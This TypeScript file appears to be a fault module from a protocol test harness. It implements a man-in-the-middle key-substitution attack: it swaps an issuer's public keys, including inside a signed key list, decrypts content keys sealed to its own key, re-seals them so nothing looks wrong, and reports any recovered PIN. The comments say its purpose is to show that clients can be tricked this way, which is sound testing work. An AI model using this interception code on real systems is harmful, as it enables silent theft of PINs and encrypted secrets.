import { constants, generateKeyPair, type KeyObject, privateDecrypt, publicEncrypt } from "node:crypto";
import { promisify } from "node:util";
import { type Context, publicKeyOf } from "@linchpin/server/issuer";
import { sandboxProtocols } from "../protocol-table.ts";
import { bodyOf, type RelayFault, reads } from "./relay-fault.ts";
import type { Envelope } from "./relayed-change.ts";

const makeKeyPair = promisify(generateKeyPair);

interface Swapped {
  readonly issuerKey: KeyObject;
  readonly own: { readonly publicKey: KeyObject; readonly privateKey: KeyObject };
}

/**
 * Hands on a key of its own in the place of the issuer's, also in the signed list of keys. Opens what is then sealed to it,
 * and seals it to the issuer's key again, so that nobody notices. What it reads it shows: that this is possible is what
 * the page is there to show.
 */
export const readsBySwappedKey: RelayFault = (context) => {
  /** By purpose. */
  const swapped = new Map<string, Swapped>();
  return async ({ url, init, send, report }) => {
    const message = sealedMessages.find(({ path }) => path.test(url));
    const key = message === undefined ? undefined : swapped.get(message.purpose);
    if (!reads(init) && message?.envelope !== undefined && key !== undefined) {
      const opened = openForItself(message.envelope, key, bodyOf(init));
      if (opened !== null) {
        const answer = await send(url, { ...init, body: opened.sealedAnew });
        const text = await answer.clone().text();
        const digits = await message.envelope
          .digitsIn({ body: bodyOf(init), answer: text }, opened.contentKey)
          .catch(() => null);
        if (digits !== null) report({ outcome: "succeeded", text: `now knows the PIN: it is ${digits}` });
        return answer;
      }
    }
    const answer = await send(url, init);
    const text = await answer.text();
    const changed = swapInList(await swapKey(context, text, swapped), swapped);
    if (changed !== text) report({ outcome: "tried", text: "puts a key of its own in the place of the issuer's" });
    const { status, headers } = answer;
    return new Response(text === "" ? null : changed, {
      status,
      headers: { "content-type": headers.get("content-type") ?? "" },
    });
  };
};

const sealedMessages = sandboxProtocols.flatMap(({ sealedMessages, change }) =>
  sealedMessages.map((message) => ({ ...message, envelope: change?.envelope })),
);

/** As SPKI in base64 and as a JWK's modulus. */
async function swapKey(context: Context, text: string, swapped: Map<string, Swapped>): Promise<string> {
  for (const { purpose, envelope } of sealedMessages) {
    if (envelope === undefined || !context.keyring.uses(purpose)) continue;
    const issuerKey = publicKeyOf(await context.keyring.current(purpose));
    if (!text.includes(spkiOf(issuerKey)) && !text.includes(modulusOf(issuerKey))) continue;
    const modulusLength = issuerKey.asymmetricKeyDetails?.modulusLength ?? 2048;
    const own = swapped.get(purpose)?.own ?? (await makeKeyPair("rsa", { modulusLength }));
    swapped.set(purpose, { issuerKey, own });
    return text
      .replace(spkiOf(issuerKey), spkiOf(own.publicKey))
      .replace(modulusOf(issuerKey), modulusOf(own.publicKey));
  }
  return text;
}

/** In a list of keys (a JWS, alone or in JSON). Nobody but the issuer's root can sign it anew. */
function swapInList(text: string, swapped: Map<string, Swapped>): string {
  return text.replace(/([\w-]{20,})\.([\w-]{100,})\.([\w-]{80,})/g, (jws, header, payload, signature) => {
    const claims = JSON.parse(Buffer.from(payload, "base64url").toString());
    if (!Array.isArray(claims.keys)) return jws;
    const keys = claims.keys.map((key: { n?: string; purpose: string; x?: string }) => {
      const own = [...swapped.values()].find(({ issuerKey }) => modulusOf(issuerKey) === key.n)?.own;
      if (own !== undefined) return { ...key, n: modulusOf(own.publicKey) };
      return key.purpose === "native-hpke" ? { ...key, ...ownPoint } : key;
    });
    return [header, Buffer.from(JSON.stringify({ ...claims, keys })).toString("base64url"), signature].join(".");
  });
}

/** RFC 7517 appendix A.1. */
const ownPoint = {
  x: "MKBCTNIcKUSDii11ySs3526iDZ8AiTo7Tu6KPAqv7D4",
  y: "4Etl6SRW2YiLUrN5vfvVHuhp7x8PxltmWWlbbM4IFyM",
};

const spkiOf = (key: KeyObject) => key.export({ format: "der", type: "spki" }).toString("base64");
const modulusOf = (key: KeyObject) => String(key.export({ format: "jwk" }).n);

function openForItself({ scheme, wrappedKeyIn }: Envelope, { issuerKey, own }: Swapped, body: string) {
  const wrapped = wrappedKeyIn(body);
  if (wrapped === null) return null;
  const padding = scheme === "PKCS1" ? constants.RSA_PKCS1_PADDING : constants.RSA_PKCS1_OAEP_PADDING;
  const oaepHash = scheme === "OAEP-SHA1" ? "sha1" : "sha256";
  try {
    const contentKey = privateDecrypt(
      { key: own.privateKey, padding, oaepHash },
      Buffer.from(wrapped.text, wrapped.encoding),
    );
    const rewrapped = publicEncrypt({ key: issuerKey, padding, oaepHash }, contentKey).toString(wrapped.encoding);
    const text = wrapped.encoding === "hex" ? rewrapped.toUpperCase() : rewrapped;
    return { contentKey, sealedAnew: body.replace(wrapped.text, text) };
  } catch {
    return null; // it was sealed to the issuer's key, after all
  }
}
